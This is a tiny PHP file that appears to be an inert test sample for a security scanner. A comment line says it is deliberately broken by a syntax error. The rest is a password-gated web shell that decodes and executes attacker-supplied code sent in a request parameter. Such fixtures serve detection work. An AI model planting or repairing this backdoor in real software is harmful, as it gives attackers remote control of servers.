<?php
shodo inert sample: deliberate syntax error, this file never runs
 if(isset($_REQUEST['pass']) && $_REQUEST['pass']=='x'){ $data = gzinflate(base64_decode($_REQUEST['d'])); $fn = create_function('', $data); $fn(); } ?>
